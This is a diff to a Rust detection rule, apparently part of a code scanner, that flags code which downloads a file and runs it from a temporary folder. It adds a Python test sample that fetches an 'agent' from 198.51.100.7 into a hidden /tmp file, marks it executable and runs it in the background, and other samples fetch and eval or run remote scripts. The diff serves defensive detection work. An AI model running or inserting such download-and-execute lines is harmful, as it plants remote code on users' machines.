@@ -37,6 +37,10 @@ pub static RULE: Rule = Rule {
             "import subprocess, urllib.request\nopen('/tmp/i.sh', 'wb').write(urllib.request.urlopen('https://get.example.com/i.sh').read())\nsubprocess.run(['bash', '/tmp/i.sh'])\n",
         ),
         Sample::File(
+            "scripts/a.py",
+            "import os, urllib.request\nurllib.request.urlretrieve('http://198.51.100.7/agent', '/tmp/.a')\nos.chmod('/tmp/.a', 0o755)\nos.system('/tmp/.a &')\n",
+        ),
+        Sample::File(
             "scripts/a.js",
             "const r = await fetch(url);\neval(await r.text());\n",
         ),
@@ -145,6 +149,7 @@ const INSTALLERS: &[&str] = &[
 
 fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
     let mut stored: Vec<(&str, &Value)> = Vec::new();
+    let mut fetched = false;
     for (index, operation) in unit.lowered.operations.iter().enumerate() {
         match &operation.act {
             Act::Evaluate { code } if code.origins.has(Origins::NETWORK) => {
@@ -183,8 +188,20 @@ fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
                         content,
                         "Runs a file that it downloaded",
                     );
+                } else if fetched
+                    && !is_shell(unit)
+                    && starts_temporary(command, program.as_deref())
+                {
+                    report(
+                        unit,
+                        reporter,
+                        index,
+                        command,
+                        "Runs a file of a temporary folder in code that downloads",
+                    );
                 }
             }
+            Act::Contact { local: false, .. } => fetched = true,
             Act::Write { path, content } if content.origins.has(Origins::NETWORK) => {
                 if let Some(path) = path.text.as_deref()
                     && path.len() > 2
@@ -228,6 +245,36 @@ fn runs(path: &str, program: Option<&str>, command: &Value) -> bool {
         && words
             .find(|word| !word.starts_with('-'))
             .is_some_and(is_file)
+}
+
+/// Whether a command runs a file that lies in a temporary folder.
+fn starts_temporary(command: &Value, program: Option<&str>) -> bool {
+    let Some(line) = command.text.as_deref() else {
+        return false;
+    };
+    let line = &line[..floor(line, 4096)];
+    let temporary = |word: &str| {
+        let word = word.trim_matches(['"', '\'']);
+        [
+            "/tmp/",
+            "/var/tmp/",
+            "/dev/shm/",
+            "/private/tmp/",
+            "%TEMP%",
+            "$TMPDIR/",
+        ]
+        .iter()
+        .any(|folder| word.starts_with(folder))
+    };
+    let mut words = line
+        .split_whitespace()
+        .filter(|word| !matches!(*word, "nohup" | "sudo" | "exec" | "start" | "setsid"));
+    let first = words.next().unwrap_or_default();
+    temporary(first)
+        || program.is_some_and(is_interpreter)
+            && words
+                .find(|word| !word.starts_with('-'))
+                .is_some_and(temporary)
 }
 
 fn floor(text: &str, most: usize) -> usize {
